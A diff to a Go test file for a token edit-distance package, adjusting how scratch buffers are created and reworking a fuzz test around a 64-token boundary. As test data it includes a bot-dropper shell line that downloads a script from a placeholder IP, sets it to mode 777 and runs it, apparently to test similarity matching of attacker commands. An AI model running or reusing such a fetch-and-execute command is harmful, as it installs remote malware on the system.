@@ -2,6 +2,7 @@ package textdist
 
 import (
 	"math/rand"
+	"strings"
 	"testing"
 )
 
@@ -24,7 +25,7 @@ func TestBoundedKernelEqualsFullDP(t *testing.T) {
 	r := rand.New(rand.NewSource(101))
 	small := []string{"a", "b"}
 	mid := []string{"cd", "/tmp", "wget", "chmod", "777", "sh", "rm", "-rf", "x"}
-	s := NewScratch()
+	s := new(Scratch)
 	in := NewInterner()
 	trial := func(a, b []string) {
 		t.Helper()
@@ -83,7 +84,7 @@ func genIDs(r *rand.Rand, n, vocab int, base int32) []int32 {
 // boundary.
 func TestInternedKernelEqualsFullDP(t *testing.T) {
 	r := rand.New(rand.NewSource(202))
-	s := NewScratch()
+	s := new(Scratch)
 	trial := func(a, b []int32) {
 		t.Helper()
 		want := s.NormalizedIDsFull(a, b)
@@ -137,7 +138,7 @@ func TestInternedKernelEqualsFullDP(t *testing.T) {
 
 // TestBoundedKernelEdgeCases pins the hand-checkable shapes.
 func TestBoundedKernelEdgeCases(t *testing.T) {
-	s := NewScratch()
+	s := new(Scratch)
 	in := NewInterner()
 	cases := []struct {
 		a, b string
@@ -170,7 +171,7 @@ func TestBoundedKernelEdgeCases(t *testing.T) {
 // kernel's cell count never exceeding the full-DP cell count on
 // near-duplicate pairs.
 func TestKernelStats(t *testing.T) {
-	s := NewScratch()
+	s := new(Scratch)
 	in := NewInterner()
 	a := in.Intern(Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh"))
 	b := in.Intern(Tokenize("cd /tmp; wget http://198.51.100.9/bot.sh; chmod 777 bot.sh; sh bot.sh"))
@@ -195,25 +196,28 @@ func TestKernelStats(t *testing.T) {
 	if sum.Pairs != 4 || sum.CellsDP != 2*st.CellsDP {
 		t.Errorf("Add: %+v", sum)
 	}
-	s.ResetStats()
-	if s.Stats() != (KernelStats{}) {
-		t.Errorf("reset: %+v", s.Stats())
-	}
 }
 
-// FuzzDamerauBanded fuzzes the bounded kernel against the naive full-DP
+// FuzzNormalizedIDs fuzzes the hybrid kernel against the naive full-DP
 // reference. Bytes map to a small token vocabulary so the fuzzer finds
 // structural cases (affixes, transpositions, repeats) rather than
-// unique-token noise; the low bits of band pick an early-abandon bound
-// for the public DamerauBanded contract too.
-func FuzzDamerauBanded(f *testing.F) {
-	f.Add([]byte("abcabc"), []byte("abacbc"), uint8(3))
-	f.Add([]byte(""), []byte("zzz"), uint8(0))
-	f.Add([]byte("prefix-core-suffix"), []byte("prefix-eroc-suffix"), uint8(7))
+// unique-token noise. The seeds put the shorter side, once the common
+// affixes are stripped, at 63, 64 and 65 tokens: both sides of the
+// single-word boundary.
+func FuzzNormalizedIDs(f *testing.F) {
+	f.Add([]byte("abcabc"), []byte("abacbc"))
+	f.Add([]byte(""), []byte("zzz"))
+	f.Add([]byte("prefix-core-suffix"), []byte("prefix-eroc-suffix"))
+	// Over the vocabulary below, 'a' and 'b' are distinct tokens, so
+	// "a" + n×"b" + "a" against (n+3)×"a" strips to n against n+1
+	// tokens, none of them shared.
+	for _, n := range []int{63, 64, 65} {
+		f.Add([]byte("a"+strings.Repeat("b", n)+"a"), []byte(strings.Repeat("a", n+3)))
+	}
 	vocab := []string{"cd", "/tmp", "wget", "x", "sh", "rm", "a", "b"}
 	toTokens := func(raw []byte) []string {
 		// Past the 64-token single-word limit so the fuzzer reaches the
-		// banded long-pair arm of the interned kernel too.
+		// long-pair arms of the interned kernel too.
 		if len(raw) > 100 {
 			raw = raw[:100]
 		}
@@ -223,26 +227,13 @@ func FuzzDamerauBanded(f *testing.F) {
 		}
 		return out
 	}
-	f.Fuzz(func(t *testing.T, rawA, rawB []byte, band uint8) {
+	f.Fuzz(func(t *testing.T, rawA, rawB []byte) {
 		a, b := toTokens(rawA), toTokens(rawB)
-		s := NewScratch()
-		full := Damerau(a, b)
-		// The interned hybrid kernel: intern both sequences and compare
-		// against the unbounded ID reference.
 		in := NewInterner()
 		ia, ib := in.Intern(a), in.Intern(b)
+		var s Scratch
 		if got, want := s.NormalizedIDs(ia, ib), s.NormalizedIDsFull(ia, ib); got != want {
 			t.Fatalf("hybrid ids = %v, full ids = %v for %v vs %v", got, want, a, b)
-		}
-		// The early-abandon contract: exact within the bound, anything
-		// above the bound reported as > bound.
-		bound := int(band % 16)
-		banded := s.DamerauBanded(a, b, bound)
-		if full <= bound && banded != full {
-			t.Fatalf("banded(%d) = %d, full = %d", bound, banded, full)
-		}
-		if full > bound && banded <= bound {
-			t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
 		}
 	})
 }
